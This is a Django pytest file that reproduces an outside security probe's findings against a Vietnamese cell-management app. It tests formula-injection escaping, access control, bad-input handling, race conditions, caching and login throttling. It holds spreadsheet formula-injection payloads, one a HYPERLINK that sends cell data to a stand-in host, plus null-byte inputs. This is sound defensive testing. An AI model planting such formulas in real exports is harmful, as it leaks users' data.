"""Each finding of the outside probe (issue 17), reproduced: these tests failed before their fixes."""

import io
import threading
from datetime import date

import pytest
from django.db import connection
from django.test import Client
from django.urls import reverse
from openpyxl import load_workbook

from assignments.models import Task
from tests.factories import make_task
from tests.pdfs import read_pdf

# 1. Excel formula injection ------------------------------------------------------------------------

FORMULAS = ['=HYPERLINK("http://x.example/?"&A1,"Bấm")', "+1+1", "-2+3", "@SUM(A1)", "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize("title", FORMULAS)
def test_no_user_text_reaches_a_workbook_as_a_formula(title, client_for, secretary, member):
    make_task(member.cell, member, title=title, source_ref=title)
    response = client_for(secretary).get(reverse("assignments:overview_xlsx"))
    book = load_workbook(io.BytesIO(response.content))
    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    titles = [c.value for c in cells if isinstance(c.value, str) and c.value.lstrip("'").lstrip() == title.strip()]
    assert titles and all(value.startswith("'") for value in titles), titles


# 2. Demo logins: tests/security/test_demo_logins.py -------------------------------------------------


# 3. The plan PDF shows a member no more than the page ------------------------------------------------


def test_a_member_downloads_only_their_own_line_of_the_plan(client_for, cell, member, committee, secretary):
    from supervision import services

    plan = services.plan_propose(cell=cell, year=2026, quarter=4, by=secretary)
    contents = {}
    for item in plan.items.select_related("member"):
        item.content = contents[item.member_id] = f"nội dung giám sát riêng của {item.member.full_name}"
        item.supervisor = secretary if item.member_id != secretary.pk else committee
        item.save()
    services.plan_approve(plan=plan, by=secretary)
    client = client_for(member)
    page = client.get(reverse("supervision:plan", args=[plan.pk])).content.decode()
    _reader, text = read_pdf(client.get(reverse("supervision:plan_pdf", args=[plan.pk])).content)
    text = " ".join(text.split())
    others = [content for pk, content in contents.items() if pk != member.pk]
    assert len(others) == 2
    assert contents[member.pk] in page and contents[member.pk] in text
    assert not [c for c in others if c in page or c in text]
    full = " ".join(
        read_pdf(client_for(secretary).get(reverse("supervision:plan_pdf", args=[plan.pk])).content)[1].split()
    )
    assert all(content in full for content in contents.values())


# 4. No 500 on bad input -----------------------------------------------------------------------------


@pytest.mark.parametrize(
    "path",
    [
        "/tasks/calendar/%00.ics",
        "/tasks/?q=%00",
        "/members/?q=%00&unit=%00",
        "/meetings/?year=%00",
        "/meetings/participation/?start=%00&end=%00",
        "/supervision/coverage/1900/",
        "/supervision/coverage/2199/",
        "/evaluations/classification/1900/",
    ],
)
def test_bad_addresses_answer_a_page_not_a_500(path, client_for, secretary):
    response = Client(raise_request_exception=False)
    response.force_login(secretary.user)
    answer = response.get(path)
    assert answer.status_code in (200, 302, 400, 404), (path, answer.status_code)


def test_an_addendum_to_a_held_meeting_without_a_record_is_refused_with_a_message(client_for, secretary, cell):
    from meetings.services import meeting_hold, meeting_publish
    from tests.factories import make_meeting

    meeting = make_meeting(cell, month=date(2026, 8, 1))
    meeting_publish(meeting=meeting, by=secretary.user)
    meeting_hold(meeting=meeting, by=secretary.user)
    client = Client(raise_request_exception=False)
    client.force_login(secretary.user)
    response = client.post(reverse("meetings:addendum", args=[meeting.pk]), {"text": "Đính chính"}, follow=True)
    assert response.status_code == 200
    assert "Biên bản chưa được thông qua" in response.content.decode()


@pytest.mark.parametrize("day", ["31/12/9999", "01/01/0001", "01/01/1800"])
def test_dates_out_of_a_sensible_range_are_refused(day, client_for, secretary, member):
    client = client_for(secretary)
    data = {
        "title": "Báo cáo",
        "source": Task.Source.RESOLUTION,
        "assignees": [member.pk],
        "assigned_on": "01/11/2026",
        "due_date": day,
        "expected_level": "",
    }
    response = client.post(reverse("assignments:create"), data)
    assert response.status_code == 200 and "từ năm 1930 đến năm 2100" in response.content.decode()
    assert not Task.objects.filter(title="Báo cáo").exists()


# 5. Double submits ----------------------------------------------------------------------------------


def _race(n, post):
    """n threads post at the same moment; each opens its own database connection."""
    barrier = threading.Barrier(n)
    results = []

    def run():
        try:
            barrier.wait()
            results.append(post())
        finally:
            connection.close()

    threads = [threading.Thread(target=run) for _ in range(n)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    return results


@pytest.mark.django_db(transaction=True)
def test_one_submitted_task_form_creates_one_task_even_when_sent_six_times(cell, secretary, member):
    from assignments.services import completion_levels

    client = Client()
    client.force_login(secretary.user)
    page = client.get(reverse("assignments:create")).content.decode()
    import re

    token = re.search(r'name="submission" value="([^"]+)"', page).group(1)
    data = {
        "submission": token,
        "title": "Viết báo cáo quý IV",
        "source": Task.Source.RESOLUTION,
        "assignees": [member.pk],
        "assigned_on": "01/11/2026",
        "due_date": "30/12/2026",
        "expected_level": completion_levels(cell)[2].pk,
        "priority": Task.Priority.NORMAL,
    }
    answers = _race(6, lambda: client.post(reverse("assignments:create"), data).status_code)
    assert Task.objects.filter(title="Viết báo cáo quý IV").count() == 1
    assert all(code in (200, 302) for code in answers), answers


@pytest.mark.django_db(transaction=True)
def test_one_addendum_form_sent_four_times_adds_one_addendum(approved_meeting, secretary):
    from meetings.models import Addendum

    client = Client()
    client.force_login(secretary.user)
    url = reverse("meetings:addendum", args=[approved_meeting.pk])
    data = {"submission": "mot-lan-gui-dinh-chinh", "text": "Đính chính số người dự"}
    answers = _race(4, lambda: client.post(url, data).status_code)
    assert Addendum.objects.filter(record__meeting=approved_meeting).count() == 1
    assert answers == [302] * 4


def _concurrent(name, data, person, n=4):
    def post():
        client = Client(raise_request_exception=False)
        client.force_login(person.user)
        return client.post(reverse(name), data).status_code

    return _race(n, post)


@pytest.mark.django_db(transaction=True)
def test_the_same_month_prepared_at_once_twice_is_one_meeting_and_no_500(cell, secretary):
    from meetings.models import Meeting

    answers = _concurrent("meetings:prepare", {"month": "03/2027"}, secretary)
    assert Meeting.objects.filter(cell=cell, month=date(2027, 3, 1)).count() == 1
    assert all(code == 302 for code in answers), answers


@pytest.mark.django_db(transaction=True)
def test_the_same_plan_proposed_at_once_twice_is_one_plan_and_no_500(cell, secretary, committee, member):
    from supervision.models import SupervisionPlan
    from supervision.services import next_quarter

    year, quarter = next_quarter(cell)  # as the button on the plans page names it
    answers = _concurrent("supervision:plan_create", {"year": year, "quarter": quarter}, secretary)
    assert SupervisionPlan.objects.filter(cell=cell).count() == 1
    assert all(code == 302 for code in answers), answers


@pytest.mark.django_db(transaction=True)
def test_the_same_member_added_to_the_pool_at_once_twice_is_one_candidate(cell, secretary, member):
    from supervision.models import Candidate

    answers = _concurrent("supervision:pool", {"member": member.pk, "reason": "Có uy tín", "evidence": ""}, secretary)
    assert Candidate.objects.filter(cell=cell, member=member).count() == 1
    assert all(code in (200, 302) for code in answers), answers


def test_a_tampered_row_id_in_the_plan_form_answers_a_message(client_for, secretary, committee, member, world):
    from tests.supervision.test_supervision import _edit_data

    plan = world["draft_plan"]
    client = Client(raise_request_exception=False)
    client.force_login(secretary.user)
    url = reverse("supervision:plan_edit", args=[plan.pk])
    data = _edit_data(plan)
    data["item-0-item_id"] = 2_000_000_000
    response = client.post(url, data, follow=True)
    assert response.status_code == 200 and "Kế hoạch vừa được thay đổi ở nơi khác" in response.content.decode()
    items = list(plan.items.order_by("pk"))
    if len(items) >= 2:
        swapped = _edit_data(plan)
        swapped["item-0-item_id"], swapped["item-1-item_id"] = items[1].pk, items[0].pk
        response = client.post(url, swapped, follow=True)
        assert response.status_code == 200


# 6. Sizes ---------------------------------------------------------------------------------------------


def test_a_minutes_text_of_megabytes_is_refused(client_for, secretary, held_meeting):
    response = client_for(secretary).post(
        reverse("meetings:minutes", args=[held_meeting.pk]), {"minutes_text": "Ý kiến. " * 200_000}
    )
    assert response.status_code == 200 and "Tối đa 100000 ký tự" in response.content.decode()


# 7. Private answers are not kept by browsers or proxies -------------------------------------------------


def test_private_answers_say_private_no_store(client_for, world, secretary, member):
    client = client_for(secretary)
    for url in [
        reverse("members:list"),
        reverse("meetings:minutes_pdf", args=[world["approved"].pk]),
        reverse("assignments:overview_xlsx"),
        reverse("assignments:feed", args=[world["feed"].token]),
    ]:
        response = client.get(url)
        assert response.status_code == 200
        assert "private" in response["Cache-Control"] and "no-store" in response["Cache-Control"], url


def test_the_login_page_is_not_stored_either(client):
    assert "no-store" in client.get(reverse("login"))["Cache-Control"]


# 8. Password change is throttled like the login ---------------------------------------------------------


def test_guessing_the_old_password_is_throttled(client_for, member):
    member.user.set_password("mat-khau-cu-2026")
    member.user.save()
    client = Client()
    client.force_login(member.user)
    url = reverse("password_change")
    data = {"old_password": "sai", "new_password1": "Mat-khau-moi-2026!", "new_password2": "Mat-khau-moi-2026!"}
    for _ in range(5):
        client.post(url, data)
    right = {**data, "old_password": "mat-khau-cu-2026"}
    response = client.post(url, right)
    assert response.status_code == 429 and "15 phút" in response.content.decode()
    member.user.refresh_from_db()
    assert member.user.check_password("mat-khau-cu-2026")


# 9. Throttling behind a proxy keys on the client's address --------------------------------------------


def test_behind_a_proxy_the_lockout_is_per_client_address(settings, member):
    settings.PROXY_COUNT = 1
    member.user.set_password("mat-khau-dung-2026")
    member.user.save()
    url = reverse("login")
    proxy = {"REMOTE_ADDR": "127.0.0.1"}
    for _ in range(5):
        Client().post(url, {"username": "member", "password": "sai"}, HTTP_X_FORWARDED_FOR="203.0.113.7", **proxy)
    locked = Client().post(
        url, {"username": "member", "password": "mat-khau-dung-2026"}, HTTP_X_FORWARDED_FOR="203.0.113.7", **proxy
    )
    assert locked.status_code == 429
    other = Client().post(
        url, {"username": "member", "password": "mat-khau-dung-2026"}, HTTP_X_FORWARDED_FOR="198.51.100.4", **proxy
    )
    assert other.status_code == 302


def test_the_proxy_count_follows_the_deployment(tmp_path):
    import os
    import subprocess
    import sys

    from django.conf import settings as django_settings

    def read(**env):
        environ = {**os.environ, "DATABASE_URL": "postgres://chibo@127.0.0.1:5432/chibo", **env}
        for name in ("PROXY_COUNT", "SECURE_PROXY_SSL_HEADER"):
            if name not in env:
                environ.pop(name, None)
        code = "from django.conf import settings; print('proxies', settings.PROXY_COUNT)"
        result = subprocess.run(
            [sys.executable, "manage.py", "shell", "-c", code],
            cwd=django_settings.BASE_DIR,
            env=environ,
            capture_output=True,
            text=True,
            timeout=120,
        )
        return result.stdout.strip().splitlines()[-1]

    assert read() == "proxies 0"
    assert read(SECURE_PROXY_SSL_HEADER="1") == "proxies 1"
    assert read(SECURE_PROXY_SSL_HEADER="1", PROXY_COUNT="2") == "proxies 2"


# 10. Another member's record answers 404, like another cell's ----------------------------------------------


def test_a_member_opening_another_members_record_gets_404(client_for, member, committee):
    assert client_for(member).get(reverse("members:detail", args=[committee.pk])).status_code == 404
    assert client_for(member).get(reverse("members:detail", args=[member.pk])).status_code == 200


def test_a_form_sent_with_its_token_while_the_database_is_lost_answers_503(db, rf):
    """The token's middleware runs the view itself, outside the 503 middleware: it answers the same page."""
    from django.db import OperationalError

    from core.submissions import OncePerSubmissionMiddleware

    def lost(request):
        raise OperationalError("server closed the connection unexpectedly")

    request = rf.post("/members/cell/units/new/", {"submission": "mot-ma-gui-mot-lan-x", "name": "Phòng A"})
    response = OncePerSubmissionMiddleware(lambda r: None).process_view(request, lost, (), {})
    assert response.status_code == 503 and response["Retry-After"] == "60"
